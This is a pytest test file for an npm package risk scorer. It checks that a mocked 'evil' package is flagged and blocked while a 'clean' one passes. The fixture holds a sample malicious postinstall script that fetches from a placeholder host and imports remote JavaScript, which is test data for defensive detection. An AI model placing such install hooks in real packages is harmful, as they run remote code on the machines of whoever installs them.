import asyncio

import httpx
import pytest

from npmscore.core.config import Settings, TarballSettings
from npmscore.core.errors import PackageNotFoundError
from npmscore.models.schemas import RiskLevel
from npmscore.pipeline import ScoringPipeline

REGISTRY = "https://registry.npmjs.org"


def _packument(name, version_data):
    return {
        "name": name,
        "dist-tags": {"latest": "1.0.0"},
        "maintainers": [{"name": "alice"}],
        "versions": {"1.0.0": {"name": name, "version": "1.0.0", **version_data}},
    }


def _registry_handler(packuments, tarballs):
    def handler(request):
        url = str(request.url)
        if url in tarballs:
            return httpx.Response(200, content=tarballs[url])
        name = request.url.raw_path.decode().lstrip("/").replace("%2F", "/")
        if name in packuments:
            return httpx.Response(200, json=packuments[name])
        return httpx.Response(404, json={"error": "Not found"})

    return handler


@pytest.fixture
def registry(make_tarball):
    clean_tgz = f"{REGISTRY}/clean/-/clean-1.0.0.tgz"
    evil_tgz = f"{REGISTRY}/evil/-/evil-1.0.0.tgz"
    packuments = {
        "clean": _packument(
            "clean",
            {
                "_npmUser": {"name": "alice"},
                "files": ["index.js", "sbom.json"],
                "dist": {
                    "tarball": clean_tgz,
                    "unpackedSize": 2048,
                    "signatures": [{"keyid": "SHA256:abc", "sig": "MEUCIQ"}],
                    "attestations": {"url": f"{REGISTRY}/-/npm/v1/attestations/clean@1.0.0"},
                },
            },
        ),
        "evil": _packument(
            "evil",
            {
                "_npmUser": {"name": "mallory"},
                "scripts": {"postinstall": "fetch('http://x'); require('http'); import('https://y/z.js')"},
                "dist": {"tarball": evil_tgz, "unpackedSize": 10 * 1024 * 1024},
            },
        ),
    }
    tarballs = {
        clean_tgz: make_tarball({"package.json": '{"name": "clean"}', "index.js": "module.exports = 1;\n"}),
        evil_tgz: make_tarball({"index.js": "fetch('http://x');\n"}),
    }
    return _registry_handler(packuments, tarballs)


def _with_pipeline(body, handler, tmp_path):
    async def main():
        settings = Settings(tarball=TarballSettings(temp_dir=tmp_path))
        async with httpx.AsyncClient(transport=httpx.MockTransport(handler)) as client:
            async with ScoringPipeline(settings, client=client) as pipeline:
                return await body(pipeline)

    return asyncio.run(main())


def test_scores_clean_package(registry, tmp_path):
    result = _with_pipeline(lambda p: p.score("clean"), registry, tmp_path)

    assert result.package_name == "clean"
    assert result.package_version == "1.0.0"
    assert result.score == 100
    assert result.band.key == "SAFE"
    assert all(r.result.risk_level == RiskLevel.NONE for r in result.rule_results)
    assert list(tmp_path.iterdir()) == []


def test_scores_malicious_package(registry, tmp_path):
    result = _with_pipeline(lambda p: p.score("evil"), registry, tmp_path)
    deductions = {r.rule_name: r.result.deduction for r in result.rule_results}

    assert deductions == {
        "external-network-call": 20,
        "code-obfuscation": 7,
        "lifecycle-script-risk": 15,
        "verified-publisher": 10,
        "signed-releases": 2,
        "sbom-detection": 0,
    }
    assert result.score == 46
    assert result.band.key == "BLOCK"


def test_unknown_package_raises(registry, tmp_path):
    with pytest.raises(PackageNotFoundError):
        _with_pipeline(lambda p: p.score("missing"), registry, tmp_path)


def test_score_many_keeps_input_order(registry, tmp_path):
    progress = []

    async def body(pipeline):
        return await pipeline.score_many(
            ["evil", "missing", "clean"],
            concurrency=2,
            progress_callback=lambda done, total, name: progress.append((done, total)),
        )

    results = _with_pipeline(body, registry, tmp_path)

    assert [name for name, _ in results] == ["evil", "missing", "clean"]
    assert results[0][1].score == 46
    assert isinstance(results[1][1], PackageNotFoundError)
    assert results[2][1].score == 100
    assert sorted(progress) == [(1, 3), (2, 3), (3, 3)]


def test_score_many_rejects_bad_concurrency(registry, tmp_path):
    with pytest.raises(ValueError):
        _with_pipeline(lambda p: p.score_many(["clean"], concurrency=0), registry, tmp_path)


def test_requires_context_manager():
    pipeline = ScoringPipeline()
    with pytest.raises(RuntimeError):
        asyncio.run(pipeline.score("clean"))


def test_owns_and_closes_its_client():
    async def main():
        pipeline = ScoringPipeline()
        async with pipeline:
            client = pipeline._http_client
            assert client is not None
            assert pipeline.registry.size() == 6
        return client

    client = asyncio.run(main())
    assert client.is_closed
